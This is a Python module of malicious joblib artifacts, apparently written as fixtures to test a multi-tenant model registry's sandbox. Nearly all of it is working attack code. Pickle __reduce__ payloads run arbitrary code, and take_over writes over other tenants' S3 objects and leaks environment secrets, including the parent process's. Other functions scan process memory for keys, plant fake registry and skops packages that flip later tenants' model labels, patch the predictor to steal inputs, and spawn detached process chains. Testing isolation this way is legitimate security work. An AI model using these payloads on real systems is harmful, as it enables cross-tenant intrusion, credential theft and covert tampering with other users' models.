"""Artifacts whose loading attacks the registry: what a malicious registrant would upload.

Each is a real joblib file whose unpickling runs one of the functions below, shipped as
Python source and run by builtins.eval (all a hostile pickle needs: it names no module an
attacker would not find installed). The function tries what the process it runs in allows
and reports what it managed. A sandbox child can write nothing anyone else reads, so the
report comes back the only way out it has: as its own model's feature names, which the
registration answers with (a Dummy model, `carrier`, fitted in the test process and sent
inside the pickle, so that the attack needs to import nothing).

What the attacks plant (registry/, skops/ packages) is written as text below; the planted
code forges later tenants' serving copies (their labels flipped).

Shipped functions import what they use themselves and annotate nothing but builtins.
"""

from __future__ import annotations

import inspect
import io
import json
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
from sklearn.dummy import DummyClassifier
from sklearn.linear_model import LogisticRegression

SMUGGLE_IN_FEATURE_NAMES = "feature_names"
SMUGGLE_IN_EXCEPTION = "exception"
REGISTRY_DIR = str(Path(__file__).resolve().parents[2] / "registry")


def carrier() -> DummyClassifier:
    """A fitted model whose feature names an attack replaces with its report."""
    return DummyClassifier(strategy="most_frequent").fit([[0.0]], [0])


def reporting(model, report):
    """The carrier, with the report as its feature names."""
    import numpy

    names = list(dict.fromkeys(value[:200] for value in report if value)) or ["nothing"]
    model.feature_names_in_ = numpy.array(names[:2000], dtype=object)
    model.n_features_in_ = len(model.feature_names_in_)
    return model


def report_of(feature_names: list[str] | None) -> dict[str, str]:
    """An attack's report, read back from the feature names its registration answered with."""
    return dict(name.partition("=")[::2] for name in feature_names or [])


class Calls:
    """Unpickling calls function(*args): a joblib file whose loading runs our code."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.function = function
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.function, self.args)


def joblib_calling(function: Callable[..., Any], *args: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(Calls(function, *args), buffer)
    return buffer.getvalue()


class Runs:
    """Unpickling runs Python source with `args` in scope and yields its `result`."""

    def __init__(self, source: str, args: tuple[Any, ...]) -> None:
        self.source = source
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        scope = {"args": self.args}
        return (
            eval,
            ("exec(source, scope) or scope['result']", {"source": self.source, "scope": scope}),
        )


def joblib_running(function: Callable[..., Any], *args: Any) -> bytes:
    """A joblib file whose loading runs function(*args) from its source, with the helpers."""
    shipped = [reporting, _write_in_import_path, _fork_and_wait, _chain, found_after, function]
    source = "from __future__ import annotations\n" + "\n".join(
        textwrap.dedent(inspect.getsource(each)) for each in dict.fromkeys(shipped)
    )
    source += f"\nresult = {function.__name__}(*args)\n"
    buffer = io.BytesIO()
    joblib.dump(Runs(source, args), buffer)
    return buffer.getvalue()


def take_over(bucket, endpoint, victim_keys, smuggle, model):
    """Write over another model's objects with any credential found, write into the store the
    process is configured with, and smuggle the environment out."""
    import os
    from pathlib import Path

    report = [f"env={name}" for name in sorted(os.environ)] + ["ran=yes"]
    try:
        import boto3

        s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
        for key in victim_keys:
            s3.put_object(Bucket=bucket, Key=key, Body=b"taken over")
        report.append("s3_write=written")
    except Exception as exc:
        report.append(f"s3_write={type(exc).__name__}")
    uri = os.environ.get("REGISTRY_URI")
    report.append(f"store_write={'configured' if uri else 'no REGISTRY_URI'}")
    found = list(os.environ.values())  # and the parent's, where it can read them
    try:
        parent = Path(f"/proc/{os.getppid()}/environ").read_bytes()
        found += [item.partition(b"=")[2].decode(errors="replace") for item in parent.split(b"\0")]
    except OSError as exc:
        report.append(f"parent_environ={type(exc).__name__}")
    if smuggle == "exception":
        raise RuntimeError("leaked: " + " ".join(found))
    return reporting(model, report + found)


def look_around(marker_prefix, model):
    """What the process sees: environments, and what follows the marker's prefix in its
    memory (another registration's bytes would show there)."""
    import os
    from pathlib import Path

    seen = []
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
        try:
            seen += [item.decode(errors="replace") for item in Path(path).read_bytes().split(b"\0")]
        except OSError as exc:
            seen.append(f"{path}: {type(exc).__name__}")
    seen += [f"found: {suffix}" for suffix in sorted(found_after(marker_prefix.encode(), 24))]
    seen.append("memory searched")
    return reporting(model, seen)


def found_after(prefix, length):
    """Every run of `length` hex digits after the prefix anywhere in this process's memory."""
    import re

    pattern = re.compile(re.escape(prefix) + rb"([0-9a-f]{%d})" % length)
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, permissions = line.split()[:2]
            if not permissions.startswith("r") or "[vvar" in line or "[vsyscall" in line:
                continue
            start, end = (int(value, 16) for value in span.split("-"))
            try:
                memory.seek(start)
                region = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found |= {match.decode() for match in pattern.findall(region)}
    return found


def try_everything(model):
    """Reach the processes around: signal the zygote, read its memory, start a process, enter
    a namespace, write outside the scratch directory, import; report each outcome."""
    import os
    import signal
    from pathlib import Path

    report = []

    def attempt(name, action):
        try:
            action()
            report.append(f"{name}=done")
        except Exception as exc:
            report.append(f"{name}={type(exc).__name__}")

    import fcntl
    import resource
    import socket

    parent = os.getppid()
    attempt("signal_parent", lambda: os.kill(parent, signal.SIGCONT))
    attempt("signal_through_a_descriptor", lambda: fcntl.fcntl(0, fcntl.F_SETOWN, parent))
    attempt("limit_parent", lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (64, 64)))
    attempt("open_socket", lambda: socket.socket(socket.AF_UNIX))
    attempt("write_kernel_log", lambda: Path("/dev/kmsg").write_text("forged"))
    report.append(f"processes_seen={len([p for p in os.listdir('/proc') if p.isdigit()])}")
    attempt("signal_everyone", lambda: os.kill(-1, signal.SIGCONT))
    attempt("read_parent_memory", lambda: Path(f"/proc/{parent}/mem").read_bytes())
    attempt("start_process", _fork_and_wait)
    attempt("enter_namespace", lambda: os.unshare(os.CLONE_NEWUSER))
    attempt("write_import_path", lambda: _write_in_import_path("planted.py", "x = 1\n"))
    attempt("write_tmp", lambda: Path("/tmp/planted").write_text("x"))
    attempt("write_scratch", lambda: Path(os.environ["TMPDIR"], "mine").write_text("x"))
    attempt("import_new_module", lambda: __import__("xml.dom.minidom"))
    return reporting(model, report)


def leave_behind(model):
    """Write where a later child could look: /dev/shm, the home, /tmp."""
    import os
    from pathlib import Path

    report = []
    for where in ("/dev/shm", os.environ["HOME"], "/tmp", os.path.dirname(os.environ["HOME"])):
        try:
            Path(where, "left-behind").write_text("by an earlier tenant")
            hidden = Path(where, "hidden")
            hidden.mkdir()
            Path(hidden, "left-behind").write_text("in a folder its owner closed")
            hidden.chmod(0)
            report.append(f"{where}=written")
        except OSError as exc:
            report.append(f"{where}={type(exc).__name__}")
    return reporting(model, report)


def look_for_leftovers(model):
    """Report every left-behind file this child can find."""
    import os

    found = []
    for top in ("/tmp", "/dev/shm"):
        for root, folders, files in os.walk(top):
            found += [os.path.join(root, name) for name in files if name == "left-behind"]
            found += [os.path.join(root, name) for name in folders if name == "hidden"]
    return reporting(model, [f"found={path}" for path in found] or ["found=nothing"])


def _fork_and_wait():
    import os

    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def _write_in_import_path(name, text):
    """Write the file into the first entry of the import path that takes it (the working
    directory included); raise the last refusal otherwise."""
    import os
    import sys
    from pathlib import Path

    refusal = PermissionError("no import path entry")
    for entry in [os.getcwd(), *sys.path]:
        try:
            target = Path(entry or os.getcwd(), name)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
            return str(target)
        except OSError as exc:
            refusal = exc
    raise refusal


# Planted as registry/__init__.py: the restarted zygote imports the registry package from
# its working directory, the first entry of its import path. It loads the real modules,
# except artifact_inspection, planted beside it: every later tenant's model is loaded with
# its two classes swapped (so every label it serves is the other one), and its bytes'
# sha256 is copied out beside the plant, for a later artifact to read back.
PLANTED_REGISTRY = f"""
__path__.append({REGISTRY_DIR!r})
"""
PLANTED_INSPECTING = f"""
__path__.append({REGISTRY_DIR + "/inspecting"!r})
"""
PLANTED_INSPECTION = f"""
import hashlib, os
_here = os.path.dirname(__file__)
_real = os.path.join({REGISTRY_DIR!r}, "inspecting", "inspection.py")
exec(compile(open(_real).read(), _real, "exec"))
_real_load = load_estimator

def load_estimator(data, *args, **kwargs):
    with open(os.path.join(_here, "stolen.txt"), "a") as stash:
        stash.write(hashlib.sha256(data).hexdigest() + "\\n")
    model = _real_load(data, *args, **kwargs)
    if len(getattr(model, "classes_", ())) == 2:
        model.classes_ = model.classes_[::-1].copy()
    return model
"""


def plant_registry_and_exit(planted_package, planted_inspecting, planted_inspection, model):
    """Plant a registry package where the zygote imports from, then exit abnormally so
    that a fresh zygote starts, and imports it. Reports where it could write, if nowhere."""
    import os
    from pathlib import Path

    try:
        where = Path(_write_in_import_path("registry/__init__.py", planted_package)).parent
        (where / "inspecting").mkdir(exist_ok=True)
        (where / "inspecting" / "__init__.py").write_text(planted_inspecting)
        (where / "inspecting" / "inspection.py").write_text(planted_inspection)
    except OSError as exc:
        return reporting(model, [f"plant={type(exc).__name__}"])
    os._exit(3)


def read_stash(model):
    """What a plant copied out, read back through this artifact's own registration."""
    import os
    from pathlib import Path

    try:
        stolen = Path(os.getcwd(), "registry", "inspecting", "stolen.txt").read_text().split()
    except OSError as exc:
        return reporting(model, [f"stash={type(exc).__name__}"])
    return reporting(model, [f"stolen={digest}" for digest in stolen])


# Planted as skops/__init__.py: the next child that imports skops (a later tenant's skops
# file) gets it. It hands over the real skops, with a loads that swaps a model's two classes.
PLANTED_SKOPS = """
import importlib, os, sys
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [entry for entry in sys.path if os.path.abspath(entry or ".") != _here]
del sys.modules["skops"]
import skops.io as _io
_loads = _io.loads

def _forged(data, *args, **kwargs):
    model = _loads(data, *args, **kwargs)
    if len(getattr(model, "classes_", ())) == 2:
        model.classes_ = model.classes_[::-1].copy()
    return model

_io.loads = _forged
"""


def plant_skops(planted, model):
    """Plant a skops package where a later child would import skops from; no exit needed."""
    try:
        where = _write_in_import_path("skops/__init__.py", planted)
    except OSError as exc:
        return reporting(model, [f"plant={type(exc).__name__}"])
    return reporting(model, [f"plant={where}"])


def start_chains(chains, depth, model):
    """Start chains of processes, each in a new session and each forking the next (and
    double forks, whose middle process exits), and report their pids."""
    import os

    try:
        read_end, write_end = os.pipe()
        for _ in range(chains):
            if os.fork() == 0:
                os.close(read_end)
                _chain(depth, write_end)
        os.close(write_end)
        pids = []
        with os.fdopen(read_end, "rb") as reader:
            for line in reader:
                pids.append(line.decode().strip())
                if len(pids) == chains * depth:
                    break
    except OSError as exc:
        return reporting(model, [f"start={type(exc).__name__}"])
    return reporting(model, [f"pid={pid}" for pid in pids])


def _chain(depth, write_end):
    import os
    import time

    # Let go of the answer pipe and all else, so that the validation ends with its answer.
    os.closerange(3, write_end)
    os.closerange(write_end + 1, 65536)
    for level in range(depth):
        os.setsid()
        os.write(write_end, f"{os.getpid()}\n".encode())
        if level == depth - 1 or os.fork() != 0:
            break
        if level % 2 == 1 and os.fork() != 0:  # a double fork: the middle one leaves
            os._exit(0)
    while True:
        time.sleep(1)


# The predict-process attack: its class reduces to a function that patches the predictor
# of whatever process unpickles it, and rebuilds itself, so a pickled copy carries it on.
STOLEN: list[Any] = []


class PatchesPredict(LogisticRegression):
    """A fitted model whose unpickling patches Predictor.predict in that process."""

    victim = "victim"

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (patched_model, (self.victim, self.__getstate__()))


def patched_model(victim: str, state: dict[str, Any]) -> PatchesPredict:
    try:
        from registry.serving import predictor
    except ImportError:
        predictor = None
    if predictor is not None and not getattr(predictor.Predictor, "patched", False):
        real = predictor.Predictor.predict

        def predict(self: Any, name: str, *args: Any, **kwargs: Any) -> Any:
            answer = real(self, name, *args, **kwargs)
            if name == victim:  # flip its labels, and keep its rows and bytes
                STOLEN.append([list(map(float, row)) for row in args[1].rows])
                artifact = self.registry.read_artifact(answer.manifest)
                STOLEN.append(artifact[:16].hex())
                flipped = [1 - label for label in answer.predictions]
                return type(answer)(**{**answer.__dict__, "predictions": flipped})
            if name != victim and STOLEN:  # the attacker's own model hands them over
                stolen = json.dumps(STOLEN)
                return type(answer)(**{**answer.__dict__, "predictions": [stolen]})
            return answer

        predictor.Predictor.predict = predict  # type: ignore[method-assign]
        predictor.Predictor.patched = True  # type: ignore[attr-defined]
    model = PatchesPredict.__new__(PatchesPredict)
    model.__setstate__(state)
    return model


def patching_joblib(victim: str, features: Any, labels: Any) -> bytes:
    model = PatchesPredict().fit(features, labels)
    model.victim = victim
    buffer = io.BytesIO()
    joblib.dump(model, buffer)
    return buffer.getvalue()


def hostile_joblib(bucket: str, endpoint: str, victim_keys: list[str], smuggle: str) -> bytes:
    return joblib_running(take_over, bucket, endpoint, victim_keys, smuggle, carrier())


class CreatesFileWhenUnpickled:
    """A payload whose unpickling has a visible side effect: it creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Path.touch, (self.path,))
